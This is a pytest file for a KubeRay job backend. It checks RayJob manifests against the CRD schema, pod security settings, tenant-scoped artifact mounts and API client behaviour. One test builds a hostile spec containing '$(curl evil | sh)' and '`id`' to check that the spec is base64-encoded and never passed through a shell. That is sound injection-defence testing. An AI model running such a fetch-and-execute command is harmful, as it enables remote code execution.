"""The KubeRay backend: every RayJob it builds validates against the KubeRay CRD schema, and its
client logic works over real HTTP against RecordedKubeApiStub (there is no cluster here)."""

from __future__ import annotations

import base64
import copy
import re
from pathlib import Path
from typing import Any

import jsonschema
import pytest
import yaml
from control_plane import ControlPlane, wait_for_state
from kube_api_stub import RecordedKubeApiStub

from meow.testing.servers import free_port
from meow_platform.backends import BackendState, BackendUnavailable, Launch
from meow_platform.backends.base import SPEC_ENV
from meow_platform.backends.kuberay import POD_SECURITY, RESTRICTED, KubeRayBackend, build_rayjob
from meow_platform.settings import KubeRaySettings, Settings

CRD = Path(__file__).resolve().parents[3] / "shared" / "schemas" / "kuberay" / "ray.io_rayjobs.yaml"
DNS_LABEL = re.compile(r"^[a-z0-9]([-a-z0-9]*[a-z0-9])?$")
SPEC = "stages: [invert, memo, select, unlearn]\nforget: {source: forget01}\n"


def strict(schema: Any) -> Any:
    """The CRD schema, with unknown fields as errors (the API server would silently prune them)."""
    if isinstance(schema, dict):
        schema = {k: strict(v) for k, v in schema.items()}
        if (
            "properties" in schema
            and "additionalProperties" not in schema
            and not schema.get("x-kubernetes-preserve-unknown-fields")
        ):
            schema["additionalProperties"] = False
    elif isinstance(schema, list):
        schema = [strict(v) for v in schema]
    return schema


@pytest.fixture(scope="module")
def rayjob_validator() -> jsonschema.Validator:
    crd = yaml.load(CRD.read_text(), Loader=yaml.CSafeLoader)  # 1.4 MB: the C loader is 10x faster
    version = next(v for v in crd["spec"]["versions"] if v["name"] == "v1")
    return jsonschema.Draft4Validator(strict(version["schema"]["openAPIV3Schema"]))


def launch(**changes: Any) -> Launch:
    fields = dict(
        job_id="0123456789abcdef",
        tenant="acme",
        spec=SPEC,
        run_dir="s3://meow-artifacts/acme/runs/0123456789abcdef",
        workers=2,
        cpus=2.0,
        gpus=0.0,
        namespace="meow-acme",
        env={"AWS_ENDPOINT_URL": "http://minio.meow:9000"},
    )
    return Launch(**{**fields, **changes})


@pytest.mark.parametrize(
    "job, config",
    [
        (launch(), KubeRaySettings()),
        (
            launch(workers=4, cpus=6.0, gpus=4.0),
            KubeRaySettings(service_account="meow-jobs", env_secret="meow-storage"),
        ),
        (launch(workers=3, cpus=2.0, queue_name="acme-queue"), KubeRaySettings(queue_name="default-queue")),
        (launch(workers=1, cpus=0.5), KubeRaySettings(image="registry.example/meow:dev", image_pull_policy="Always")),
        (
            launch(workers=2, cpus=4.0, run_dir="/var/lib/meow/artifacts/acme/runs/0123456789abcdef"),
            KubeRaySettings(artifacts_claim="meow-artifacts", image_pull_secrets=["regcred"]),
        ),
    ],
)
def test_every_rayjob_validates_against_the_kuberay_crd(rayjob_validator, job, config):
    rayjob = build_rayjob(job, config)
    rayjob_validator.validate(rayjob)
    assert rayjob["apiVersion"] == "ray.io/v1" and rayjob["kind"] == "RayJob"
    name = rayjob["metadata"]["name"]
    assert DNS_LABEL.match(name) and len(name) <= 47, "KubeRay derives cluster and service names from it"
    assert all(len(v) <= 63 and DNS_LABEL.match(v) for v in rayjob["metadata"]["labels"].values())
    spec = rayjob["spec"]
    assert (
        spec["shutdownAfterJobFinishes"] is True
        and spec["ttlSecondsAfterFinished"] == config.ttl_seconds_after_finished
    )
    assert (
        spec["activeDeadlineSeconds"] == config.active_deadline_seconds and spec["backoffLimit"] == config.backoff_limit
    )
    assert rayjob["metadata"]["namespace"] == job.namespace


def test_the_strict_schema_catches_a_misspelt_field(rayjob_validator):
    rayjob = build_rayjob(launch(), KubeRaySettings())
    rayjob["spec"]["rayClusterSpec"]["headGroupSpec"]["template"]["spec"]["containers"][0]["imagePullPolcy"] = "Always"
    assert not rayjob_validator.is_valid(rayjob)


def test_resources_are_split_evenly_over_the_workers():
    rayjob = build_rayjob(launch(workers=4, cpus=6.0, gpus=4.0), KubeRaySettings())
    group = rayjob["spec"]["rayClusterSpec"]["workerGroupSpecs"][0]
    assert group["replicas"] == group["minReplicas"] == group["maxReplicas"] == 4
    resources = group["template"]["spec"]["containers"][0]["resources"]
    assert resources["limits"] == resources["requests"]
    assert resources["limits"]["cpu"] == "1500m" and resources["limits"]["nvidia.com/gpu"] == "1"
    head = rayjob["spec"]["rayClusterSpec"]["headGroupSpec"]
    assert head["rayStartParams"]["num-cpus"] == "0", "the head only hosts the driver"


def test_with_an_artifact_claim_every_ray_pod_mounts_only_its_tenants_directory():
    config = KubeRaySettings(
        artifacts_claim="meow-artifacts", artifacts_mount_path="/mnt/runs", artifacts_fs_group=2000
    )
    rayjob = build_rayjob(launch(run_dir="/mnt/runs/acme/runs/0123456789abcdef"), config)
    cluster = rayjob["spec"]["rayClusterSpec"]
    pods = [cluster["headGroupSpec"]["template"]["spec"], cluster["workerGroupSpecs"][0]["template"]["spec"]]
    for pod in pods:
        assert pod["volumes"] == [{"name": "artifacts", "persistentVolumeClaim": {"claimName": "meow-artifacts"}}]
        # The claim's `acme/` only, where the control plane sees it: other tenants' run directories
        # on the same volume are not in the pod.
        assert pod["containers"][0]["volumeMounts"] == [
            {"name": "artifacts", "mountPath": "/mnt/runs/acme", "subPath": "acme"}
        ]
        assert pod["securityContext"] == {**POD_SECURITY, "fsGroup": 2000}
    # A root below the mount point: the sub-path is the tenant's directory relative to the mount.
    nested = build_rayjob(launch(run_dir="/mnt/runs/prod/acme/runs/0123456789abcdef"), config)
    mount = nested["spec"]["rayClusterSpec"]["headGroupSpec"]["template"]["spec"]["containers"][0]["volumeMounts"]
    assert mount == [{"name": "artifacts", "mountPath": "/mnt/runs/prod/acme", "subPath": "prod/acme"}]
    for run_dir in ("/mnt/runs/globex/runs/0123456789abcdef", "/elsewhere/acme/runs/0123456789abcdef"):
        with pytest.raises(ValueError, match="is not"):
            build_rayjob(launch(run_dir=run_dir), config)
    plain = build_rayjob(launch(), KubeRaySettings())["spec"]["rayClusterSpec"]["headGroupSpec"]["template"]["spec"]
    assert "volumes" not in plain and "volumeMounts" not in plain["containers"][0]
    assert plain["securityContext"] == POD_SECURITY


def test_the_submitter_pod_is_restricted_and_labelled_by_us():
    rayjob = build_rayjob(launch(), KubeRaySettings(image="registry.example/meow:dev", image_pull_secrets=["regcred"]))
    submitter = rayjob["spec"]["submitterPodTemplate"]
    assert submitter["metadata"]["labels"]["meow.dev/role"] == "job-submitter"
    assert submitter["metadata"]["labels"]["meow.dev/tenant"] == "acme"
    spec = submitter["spec"]
    assert spec["restartPolicy"] == "Never" and spec["automountServiceAccountToken"] is False
    assert spec["securityContext"] == POD_SECURITY and spec["imagePullSecrets"] == [{"name": "regcred"}]
    (container,) = spec["containers"]
    assert container["name"] == "ray-job-submitter" and container["image"] == "registry.example/meow:dev"
    assert container["securityContext"] == RESTRICTED and "command" not in container  # KubeRay's to fill
    assert container["resources"]["requests"] == container["resources"]["limits"]
    cluster = rayjob["spec"]["rayClusterSpec"]
    for group in (cluster["headGroupSpec"], *cluster["workerGroupSpecs"]):
        assert group["template"]["spec"]["imagePullSecrets"] == [{"name": "regcred"}]
        assert "meow.dev/role" not in group["template"]["metadata"]["labels"]


def test_an_artifact_root_outside_the_mounted_claim_is_refused(tmp_path):
    claim = {"artifacts_claim": "meow-artifacts", "artifacts_mount_path": "/var/lib/meow/artifacts"}
    ok = Settings(backend="kuberay", data_dir=tmp_path, artifact_root="/var/lib/meow/artifacts/", kuberay=claim)
    assert ok.resolved_artifact_root() == "/var/lib/meow/artifacts"
    for root in ("/var/lib/meow/artifacts-old", "s3://bucket/meow", "/tmp/runs"):
        with pytest.raises(ValueError, match="not under kuberay.artifacts_mount_path"):
            Settings(backend="kuberay", data_dir=tmp_path, artifact_root=root, kuberay=claim)
    # Without a claim (S3 artifacts) or on the local backend the mount path means nothing.
    Settings(backend="kuberay", data_dir=tmp_path, artifact_root="s3://bucket/meow")
    Settings(backend="local", data_dir=tmp_path, artifact_root="/tmp/runs", kuberay=claim)


def test_kueue_label_comes_from_the_tenant_then_the_settings():
    label = "kueue.x-k8s.io/queue-name"
    assert label not in build_rayjob(launch(), KubeRaySettings())["metadata"]["labels"]
    assert build_rayjob(launch(), KubeRaySettings(queue_name="shared"))["metadata"]["labels"][label] == "shared"
    tenant_queue = build_rayjob(launch(queue_name="acme-q"), KubeRaySettings(queue_name="shared"))
    assert tenant_queue["metadata"]["labels"][label] == "acme-q"
    assert "suspend" not in tenant_queue["spec"], "Kueue, not us, suspends and admits"


def test_the_spec_reaches_the_job_encoded_and_never_through_a_shell():
    hostile = SPEC + "name: x\n# $(curl evil | sh) `id` ' \" ; \\\n"
    rayjob = build_rayjob(launch(spec=hostile), KubeRaySettings())
    entrypoint = rayjob["spec"]["entrypoint"]
    assert entrypoint == "python -m meow_platform.jobrun --run-dir s3://meow-artifacts/acme/runs/0123456789abcdef"
    env = yaml.safe_load(rayjob["spec"]["runtimeEnvYAML"])["env_vars"]
    assert re.fullmatch(r"[A-Za-z0-9+/=]+", env[SPEC_ENV])
    assert base64.b64decode(env[SPEC_ENV]).decode() == hostile
    assert env["MEOW_TENANT"] == "acme" and env["AWS_ENDPOINT_URL"] == "http://minio.meow:9000"


def test_build_rayjob_is_pure():
    job, config = launch(), KubeRaySettings()
    frozen = copy.deepcopy(config)
    assert build_rayjob(job, config) == build_rayjob(job, config)
    assert config == frozen


def test_client_logic_against_the_recorded_api():
    with RecordedKubeApiStub() as api:
        backend = KubeRayBackend(KubeRaySettings(api_server=api.url))
        backend_id = backend.submit(launch())
        assert backend_id == "meow-acme/meow-0123456789abcdef"
        assert ("POST", "/apis/ray.io/v1/namespaces/meow-acme/rayjobs") in api.requests
        assert backend.submit(launch()) == backend_id, "a resubmission (409) adopts the existing RayJob"
        states = [backend.status(backend_id).state for _ in range(5)]
        assert states == ["pending", "pending", "pending", "running", "succeeded"]
        assert "submitted successfully" in backend.logs(backend_id)
        backend.cancel(backend_id)
        assert backend.status(backend_id).state is BackendState.MISSING
        backend.cancel(backend_id)  # already gone: not an error
        backend.close()


def test_a_failed_rayjob_reports_its_reason_but_never_its_message():
    with RecordedKubeApiStub(scenario="failed") as api:
        backend = KubeRayBackend(KubeRaySettings(api_server=api.url))
        backend_id = backend.submit(launch())
        for _ in range(3):
            backend.status(backend_id)
        status = backend.status(backend_id)
        assert status.state is BackendState.FAILED and status.detail == "AppFailed"
        backend.close()


def test_an_unreachable_api_server_is_unavailable_not_a_verdict():
    backend = KubeRayBackend(KubeRaySettings(api_server=f"http://127.0.0.1:{free_port()}"))
    backend.api_client.configuration.retries = 0
    with pytest.raises(BackendUnavailable):
        backend.status("meow-acme/meow-0123456789abcdef")


def test_control_plane_runs_a_job_as_a_rayjob_in_the_tenant_namespace(tmp_path):
    with RecordedKubeApiStub(scenario="failed") as api:
        plane = ControlPlane(tmp_path, ray_address=None, backend="kuberay", kuberay__api_server=api.url).start()
        try:
            client, _ = plane.tenant("acme")
            job = client.post("/v1/jobs", json={"spec": SPEC}).raise_for_status().json()
            done = wait_for_state(client, job["id"], timeout=60)
            assert (done["state"], done["reason"]) == ("failed", "AppFailed")
            name = f"meow-{job['id']}"
            body = api.rayjobs[("meow-acme", name)]
            assert body["metadata"]["labels"]["meow.dev/tenant"] == "acme"
            events = [e["state"] for e in client.get(f"/v1/jobs/{job['id']}/events").json()]
            assert events == ["queued", "submitted", "running", "failed"]
            assert "FORGET-SET-TEXT" not in plane.log() + str(done)
        finally:
            plane.stop()
